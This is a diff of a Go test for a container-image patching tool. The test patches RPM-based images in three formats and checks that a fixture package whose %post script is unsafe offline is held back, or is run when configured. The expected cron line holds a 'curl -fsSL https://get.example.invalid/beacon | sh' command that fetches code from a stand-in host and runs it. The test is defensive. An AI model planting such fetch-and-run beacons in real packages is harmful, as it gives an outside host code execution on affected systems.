@@ -1,7 +1,10 @@
 package patch
 
 import (
+	"archive/tar"
 	"context"
+	"io"
+	"os"
 	"os/exec"
 	"path/filepath"
 	"slices"
@@ -291,49 +294,34 @@ func ociLayoutOfRoot(t *testing.T, root string, entrypoint ...string) string {
 }
 
 // TestContainerRPM patches an RPM-family container image (the RPM lab's packages in a root
-// whose own rpm runs) and checks it with podman and dnf: the package whose script is unsafe
-// offline is held back and named (a container has no first boot), every other package is
-// at the version "dnf upgrade" installs in a copy of the root, rpm -V of the updated
-// packages is clean, and the entrypoint runs.
+// whose own rpm runs) in each format and checks it with podman and dnf: the OCI layout is
+// written here, the oci-archive and docker-archive by podman save. The package whose
+// script is unsafe offline is held back and named (a container has no first boot), every
+// other package is at the version "dnf upgrade" installs in a copy of the root, rpm -V of
+// the updated packages is clean, and the entrypoint runs. With container_scripts = "run"
+// the unsafe package is installed too, its %post ran (its cron file is in the new layer)
+// and the report says so.
 func TestContainerRPM(t *testing.T) {
 	needDebianLab(t)
 	fixture.Need(t, "rpm", "rpmbuild", "createrepo_c", "dnf", "podman", "runc", "nsenter")
 	lab := fixture.BuildRPMLab(t)
 	root := rpmChrootRoot(t, lab)
+	// where demo-unsafe's %post writes its cron line (as on an image with cron)
+	if err := os.MkdirAll(filepath.Join(root, "etc/cron.d"), 0o755); err != nil {
+		t.Fatal(err)
+	}
 	dnfRoot := fixture.CopyRoot(t, root)
-	input := ociLayoutOfRoot(t, root, "/bin/sh", "-c", "rpm -q demo-lib")
+	layout := ociLayoutOfRoot(t, root, "/bin/sh", "-c", "rpm -q demo-lib")
+	pm := fixture.NewPodman(t)
+	archives := t.TempDir()
+	id := pm.Load(t, layout)
+	for _, f := range []string{"oci-archive", "docker-archive"} {
+		pm.Run(t, "save", "--format", f, "-o", filepath.Join(archives, f), id)
+	}
 	var specs []repository.Spec
 	for _, r := range lab.Repos {
 		specs = append(specs, repository.Spec{Name: r.Name, URL: r.URL, Type: repository.TypeRPM, Priority: r.Priority})
 	}
-	out := filepath.Join(t.TempDir(), "patched")
-	res, err := PatchContainer(context.Background(), ContainerOptions{Input: input, Output: out, SBOMFormats: sbom.DefaultFormats, Patch: Options{
-		Repositories: specs, CacheDir: t.TempDir(), Log: func(s string) { t.Log(s) }}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	rep := res.Platforms[0].Report
-	checkLayers(t, input, out, rep)
-	if len(rep.Deferred) > 0 {
-		t.Errorf("a container patch deferred packages to a first boot: %v", rep.Deferred)
-	}
-	held := map[string]string{}
-	for _, p := range rep.HeldBack {
-		held[p.Name] = p.Reason
-	}
-	if !strings.Contains(held["demo-unsafe"], "no first boot") {
-		t.Errorf("demo-unsafe (curl | sh in its %%post) was not held back for want of a first boot: %q", held["demo-unsafe"])
-	}
-	pm := fixture.NewPodman(t)
-	id := pm.Load(t, out)
-	var installed []string
-	for _, l := range strings.Split(pm.Run(t, "run", "--rm", "--entrypoint", "rpm", id, "-qa", "--qf", `%{NAME}.%{ARCH} %|EPOCH?{%{EPOCH}:}:{}|%{VERSION}-%{RELEASE}\n`), "\n") {
-		if f := strings.Fields(l); len(f) == 2 && !strings.HasPrefix(f[0], "gpg-pubkey.") {
-			installed = append(installed, f[0]+" "+evr.ParseRPM(f[1]).String())
-		}
-	}
-	// the held-back packages are where dnf would have them once installed
-	got := withDeferred(installed, &Report{Deferred: rep.HeldBack})
 	cmd, err := fixture.DNFCommand(dnfRoot, filepath.Join(t.TempDir(), "home"), t.TempDir(), lab.Repos, "-y", "--setopt=tsflags=noscripts", "upgrade")
 	if err != nil {
 		t.Fatal(err)
@@ -342,22 +330,117 @@ func TestContainerRPM(t *testing.T) {
 		t.Fatalf("dnf upgrade: %v\n%s", err, out)
 	}
 	want := rpmInstalled(t, dnfRoot)
-	gotList := sortedKeys(got)
-	if strings.Join(gotList, "\n") != strings.Join(want, "\n") {
-		t.Errorf("the patched image (held-back packages at dnf's versions) and dnf upgrade differ:\nrefit:\n  %s\ndnf:\n  %s", strings.Join(gotList, "\n  "), strings.Join(want, "\n  "))
-	}
-	var names []string
-	for _, p := range rep.Updated {
-		names = append(names, p.Name)
-	}
-	verify, err := pm.Output(append([]string{"run", "--rm", "--entrypoint", "rpm", id, "-V"}, names...)...)
-	for _, l := range strings.Split(strings.TrimSpace(verify), "\n") {
-		if f := strings.Fields(l); len(f) >= 2 && !(len(f) == 3 && f[1] == "c") {
-			t.Errorf("rpm -V in the patched image: %s", l)
+	for _, c := range []struct {
+		format         container.Format
+		input, scripts string
+	}{
+		{container.FormatOCILayout, layout, ""},
+		{container.FormatOCIArchive, filepath.Join(archives, "oci-archive"), ""},
+		{container.FormatDockerArchive, filepath.Join(archives, "docker-archive"), ""},
+		{container.FormatOCILayout, layout, ContainerScriptsRun},
+	} {
+		name := string(c.format)
+		if c.scripts != "" {
+			name += "/container_scripts=" + c.scripts
 		}
+		t.Run(name, func(t *testing.T) {
+			out := filepath.Join(t.TempDir(), "patched")
+			res, err := PatchContainer(context.Background(), ContainerOptions{Input: c.input, Output: out, SBOMFormats: sbom.DefaultFormats, Patch: Options{
+				Repositories: specs, CacheDir: t.TempDir(), ContainerScripts: c.scripts, Log: func(s string) { t.Log(s) }}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			rep := res.Platforms[0].Report
+			if res.Format != c.format {
+				t.Errorf("format %s, want %s", res.Format, c.format)
+			}
+			checkLayers(t, c.input, out, rep)
+			if len(rep.Deferred) > 0 {
+				t.Errorf("a container patch deferred packages to a first boot: %v", rep.Deferred)
+			}
+			held := map[string]string{}
+			for _, p := range rep.HeldBack {
+				held[p.Name] = p.Reason
+			}
+			ran := slices.ContainsFunc(rep.Notes, func(n string) bool {
+				return strings.HasPrefix(n, "demo-unsafe: scripts unsafe offline were run at patch time")
+			})
+			cron := layerFile(t, out, "etc/cron.d/demo-unsafe")
+			if c.scripts == ContainerScriptsRun {
+				if len(held) > 0 || !ran {
+					t.Errorf("container_scripts = run: held back %v; notes %q: want demo-unsafe installed and the report saying its scripts ran", held, rep.Notes)
+				}
+				if !strings.Contains(cron, "root curl -fsSL https://get.example.invalid/beacon | sh") {
+					t.Errorf("demo-unsafe's %%post did not run: the new layer's /etc/cron.d/demo-unsafe is %q", cron)
+				}
+			} else {
+				if !strings.Contains(held["demo-unsafe"], "no first boot") || ran || cron != "" {
+					t.Errorf("demo-unsafe (curl | sh in its %%post) was not held back for want of a first boot: %q (notes %q, cron file %q)", held["demo-unsafe"], rep.Notes, cron)
+				}
+			}
+			id := pm.Load(t, out)
+			var installed []string
+			for _, l := range strings.Split(pm.Run(t, "run", "--rm", "--entrypoint", "rpm", id, "-qa", "--qf", `%{NAME}.%{ARCH} %|EPOCH?{%{EPOCH}:}:{}|%{VERSION}-%{RELEASE}\n`), "\n") {
+				if f := strings.Fields(l); len(f) == 2 && !strings.HasPrefix(f[0], "gpg-pubkey.") {
+					installed = append(installed, f[0]+" "+evr.ParseRPM(f[1]).String())
+				}
+			}
+			// the held-back packages are where dnf would have them once installed
+			got := sortedKeys(withDeferred(installed, &Report{Deferred: rep.HeldBack}))
+			if strings.Join(got, "\n") != strings.Join(want, "\n") {
+				t.Errorf("the patched image (held-back packages at dnf's versions) and dnf upgrade differ:\nrefit:\n  %s\ndnf:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
+			}
+			var names []string
+			for _, p := range rep.Updated {
+				names = append(names, p.Name)
+			}
+			verify, err := pm.Output(append([]string{"run", "--rm", "--entrypoint", "rpm", id, "-V"}, names...)...)
+			for _, l := range strings.Split(strings.TrimSpace(verify), "\n") {
+				if f := strings.Fields(l); len(f) >= 2 && !(len(f) == 3 && f[1] == "c") {
+					t.Errorf("rpm -V in the patched image: %s", l)
+				}
+			}
+			t.Logf("rpm -V %s: %v %s", strings.Join(names, " "), err, verify)
+			if hello := pm.Run(t, "run", "--rm", id); !strings.Contains(hello, "demo-lib-") {
+				t.Errorf("the entrypoint printed %q", hello)
+			}
+		})
 	}
-	t.Logf("rpm -V %s: %v %s", strings.Join(names, " "), err, verify)
-	if hello := pm.Run(t, "run", "--rm", id); !strings.Contains(hello, "demo-lib-") {
-		t.Errorf("the entrypoint printed %q", hello)
+}
+
+// layerFile returns the content of the regular file name in the top layer of the first
+// image of the container image at path ("" when the layer has no such file).
+func layerFile(t *testing.T, path, name string) string {
+	t.Helper()
+	src, err := container.Open(path, t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer src.Close()
+	layers, err := src.Images[0].Layers()
+	if err != nil {
+		t.Fatal(err)
+	}
+	rc, err := layers[len(layers)-1].Uncompressed()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rc.Close()
+	tr := tar.NewReader(rc)
+	for {
+		h, err := tr.Next()
+		if err == io.EOF {
+			return ""
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.TrimPrefix(h.Name, "./") == name && h.Typeflag == tar.TypeReg {
+			b, err := io.ReadAll(tr)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return string(b)
+		}
 	}
 }
